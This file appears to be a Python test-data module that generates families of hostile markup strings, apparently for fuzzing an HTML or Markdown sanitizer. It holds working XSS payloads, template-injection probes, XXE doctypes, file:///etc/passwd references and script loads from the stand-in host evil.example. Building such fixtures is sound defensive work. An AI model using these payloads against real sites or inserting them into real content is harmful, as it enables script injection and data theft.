"""Hostile texts that are markup of some kind: HTML, SVG, links, templates, Markdown, XML, JSON in a script."""

from __future__ import annotations

from itertools import product

RUN = "window.pwned=1"

ENDS = ("", '">', "'>", "`>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>",
        "-->", "--!>", "]]>", "?>", "</pre></code>", "</svg>", "</td></tr></table>", "</p></main></body></html>")  # fmt: skip
BODIES = (
    f"<script>{RUN}</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    "<svg/onload=alert(1)>",
)
SPELLINGS = (
    *(
        f"<script\n>{RUN}</script\n>",
        f"<script/x>{RUN}</script>",
        f"<<script>{RUN}//<</script>",
        f"<script>{RUN}",
    ),
    *("<script type=module>alert(1)</script>", "<script src=data:text/javascript,alert(1)></script>"),
    *(
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<scr\x00ipt>alert(1)</script>",
        "<\x00script>alert(1)</script>",
    ),
    *("%3Cscript%3Ealert(1)%3C/script%3E", "\\x3cscript\\x3ealert(1)", "\\u003cscript\\u003ealert(1)"),
    *("&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "&#x3c;script&#x3e;alert(1)"),
    *("&amp;lt;script&amp;gt;", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "＜script＞alert(1)＜/script＞"),
    *(
        "<script>/*",
        "*/alert(1)//</script>",
        "<!--<script>",
        "<script><!--",
        "<![CDATA[<script>alert(1)</script>]]>",
    ),
    *(
        "<sc\u200bript>alert(1)</sc\u200bript>",
        "<ſcript>alert(1)</ſcript>",
        "\u2028<script>alert(1)</script>",
    ),
    *(
        "<plaintext>",
        "<xmp>",
        "<listing>",
        "<noembed>",
        "<base href=//evil.example/>",
        "<title>",
        "<textarea>",
    ),
)

HANDLERS = (
    *(
        "img src=x onerror",
        "img srcset=x onerror",
        "image src=x onerror",
        "video src=x onerror",
        "audio src=x onerror",
    ),
    *("video><source onerror", "object data=x onerror", "embed src=x onload", "iframe onload", "body onload"),
    *("svg onload", "svg><animate onbegin", "svg><set onend", "math><mi onclick", "input autofocus onfocus"),
    *(
        "select autofocus onfocus",
        "textarea autofocus onfocus",
        "button autofocus onfocus",
        "details open ontoggle",
    ),
    *(
        "marquee onstart",
        "style onload",
        "link rel=stylesheet href=x onerror",
        "form onsubmit",
        "a onmouseover",
    ),
    *(
        "p tabindex=1 autofocus onfocus",
        "div style=animation:x onanimationstart",
        "x contenteditable autofocus onfocus",
    ),
    *(
        "dialog open onclose",
        "isindex type=image src=x onerror",
        "frameset onload",
        "keygen autofocus onfocus",
    ),
)
QUOTES = ('"', "'", "`", "", '\\"', "&quot;", "%22", "\u201c")
ATTRIBUTES = (
    f"onmouseover={RUN}", "autofocus onfocus=alert(1)", "style=position:fixed;inset:0", "href=javascript:alert(1)",
    "src=//evil.example/x", "id=main", "data-upstream=x", "http-equiv=refresh content=0;url=//evil.example",
)  # fmt: skip

TARGETS = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)"),
    *(
        "&#106;avascript:alert(1)",
        "javascript&colon;alert(1)",
        "\x01javascript:alert(1)",
        "javascript://x/%0Aalert(1)",
    ),
    *("vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4="),
    *(
        "data:image/svg+xml,<svg onload=alert(1)>",
        "file:///etc/passwd",
        "blob:null/x",
        "view-source:x",
        "intent://x",
    ),
    *("//evil.example/x", "\\\\evil.example\\x", "https://openrouter.ai@evil.example/", "https:evil.example"),
    *("http://[", "https://evil.example:x/", "#top", "?m=x", "mailto:a@evil.example?body=x"),
)
PLACES = (
    *("[a]({})", "![a]({})", "<{}>", '[a]({} "t")', "[a][r]\n\n[r]: {}", "[a](<{}>)", '<a href="{}">a</a>'),
    *("<img src='{}'>", "<iframe src='{}'></iframe>", "<form action='{}'><button>a</button></form>"),
    *(
        "<meta http-equiv=refresh content='0;url={}'>",
        "<object data='{}'></object>",
        "<svg><a xlink:href='{}'><text>a",
    ),
)

DRAWINGS = (
    "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) />", "<svg><style><img src=x onerror=alert(1)>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>", "<svg><use href=//evil.example/x.svg#a>",
    "<svg><image href=//evil.example/x.png>", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>a",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<svg><desc><b>x</desc>", "</svg><svg onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>", "<math href=javascript:alert(1)>a</math>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<form><math><mtext></form><form><mglyph><style></math>",
    "<table><tr><td>x</table><b>", "<select><option><img src=x onerror=alert(1)>", "<template><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<a href=x><a href=y>nested",
    "<style>*{display:none}</style>", "<style>@import '//evil.example/x.css';</style>", "<p style=\"background:url(//evil.example/x)\">",
    "<p style='width:expression(alert(1))'>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=prefetch href=//evil.example>",
    "<div id=main><h1>x</h1></div>", "<input name=q value=x>", "<form id=view></form>", "<a name=document>x</a>",
    "<img name=getElementById src=x>", "<iframe srcdoc='&lt;script&gt;parent.pwned=1&lt;/script&gt;'></iframe>",
)  # fmt: skip

TEMPLATES = (
    *(
        "{{ 7*7 }}",
        "{{7*'7'}}",
        "{{ config }}",
        "{{ site }}",
        "{{ self.__init__.__globals__ }}",
        "{{ ''.__class__ }}",
    ),
    *(
        "{% include 'base.html' %}",
        "{% for x in range(9) %}",
        "{% endblock %}",
        "{% raw %}",
        "{# comment",
        "{{",
        "}}",
    ),
    *(
        "{% extends 'x' %}",
        "{{ super() }}",
        "{{ x|safe }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "*{7*7}",
        "@(7*7)",
    ),
    *(
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "${{ secrets.GITHUB_TOKEN }}",
        "[[7*7]]",
        "{$x}",
    ),
    *(
        "{{ models_listed }}",
        "{{ table: sources }}",
        "{{ root }}",
        "{php}x{/php}",
        "<#assign x=1>",
        "%{7*7}",
        "~{x}",
    ),
)

MARKDOWN = (
    *("# heading", "Setext\n===", "two\n---", "---", "> quote", "1. one\n2. two", "- a\n- b", "- [x] done", "+ plus"),
    *("| a | b |\n|---|---|\n| 1 | <script>alert(1)</script> |", "|x", "a | b", "```\nnever closed", "~~~js\nalert(1)\n~~~"),
    *("    indented <script>alert(1)</script>", "`<script>alert(1)</script>`", "``x", "*em* **strong** ***both***", "__a__ _b_"),
    *("~~gone~~", "^sup^ ~sub~", "[a]: https://evil.example", "[^1]\n\n[^1]: note", "*[HTML]: x\n\nHTML", "[toc]", "[TOC]"),
    *("a{: onclick=alert(1) }", "# h {#main}", "\\<script>alert(1)</script>", "\\`\\*\\_", "![a][b]", "[a]", "[a][]", "[a]()"),
    *("![](//evil.example/x.png)", "[![a](x)](y)", "[a](b(c)d)", "[a](x 'y' onclick=z)", "<https://evil.example/><b>"),
    *("<a@evil.example>", "<!-- comment -->", "<div markdown=1>*x*</div>", "<details><summary>x</summary>y</details>"),
    *("<b>bold</b>", "<br>", "line  \nbreak", "a\\\nb", "term\n: definition", "$$x$$", "\\(x\\)", ":smile:", "==mark=="),
    *("```mermaid\ngraph\n```", "--8<-- \"/etc/passwd\"", "!!! note\n    x", "???+ x", "<think>thoughts</think>", "STX\x02klzzwxh:0000\x03"),
    *("\x02klzzwxh:0001\x03 <b>", "\x02amp\x03", "\x02wzxhzdk:0\x03", "&#x2;klzzwxh:0&#x3;"),
)  # fmt: skip

ENTITIES = (
    *("&lt;", "&amp;lt;", "&amp;amp;lt;", "&nbsp;", "&#0;", "&#xD800;", "&#x110000;", "&#128;", "&#x1b;[31m", "&copy", "&notit;"),
    *("&bogus;", "&", "&&", "&;", "&#", "&#x", "&#x3C", "&#60", "&quot;&apos;", "&Tab;&NewLine;", "&lpar;&rpar;", "AT&T", "a&b=c"),
)  # fmt: skip

XML = (
    *("]]>", "<![CDATA[x", "<![CDATA[x]]>", "<?xml version='1.0'?>", "<?xml-stylesheet href='//evil.example'?>", "<?php x ?>"),
    *("<!DOCTYPE x [<!ENTITY a 'b'>]>&a;", "<!DOCTYPE x SYSTEM '//evil.example/x.dtd'>", "&x;", "%x;", "<!--", "-->", "--", "<!"),
    *("</entry></feed>", "</title><id>x</id>", "<x:include href='x'/>", "</urlset>", "xmlns=''", "</content><content type='xhtml'>"),
)  # fmt: skip

PROGRAMS = (
    *('"};alert(1)//', "'-alert(1)-'", '\\";alert(1);//', "`-alert(1)-`", "*/alert(1)/*", "\\", '\\"', "\\\\", '"', "'", "`"),
    *("</script>", "</SCRIPT >", "<!--", "<!--<script>", "</scr\\ipt>", "\\u2028alert(1)", "\u2028alert(1)\u2029", "//", "/*"),
    *('{"@type":"Product"}', '","aggregateRating":{"ratingValue":5},"x":"', "\\ud800", "\\u0000", "\\u003c/script\\u003e", "0;//"),
)  # fmt: skip

FAMILIES: dict[str, tuple[str, ...]] = {
    "script tag": (*(end + body for end, body in product(ENDS, BODIES)), *SPELLINGS),
    "handler": tuple(f"{end}<{tag}={RUN}>" for end, tag in product(("", '">', "'>"), HANDLERS)),
    "attribute": tuple(f"x{quote} {attribute} {quote}" for quote, attribute in product(QUOTES, ATTRIBUTES)),
    "link": tuple(place.format(target) for place, target in product(PLACES, TARGETS)),
    "drawing": DRAWINGS,
    "template": TEMPLATES,
    "markdown": MARKDOWN,
    "entity": ENTITIES,
    "xml": XML,
    "program text": PROGRAMS,
}
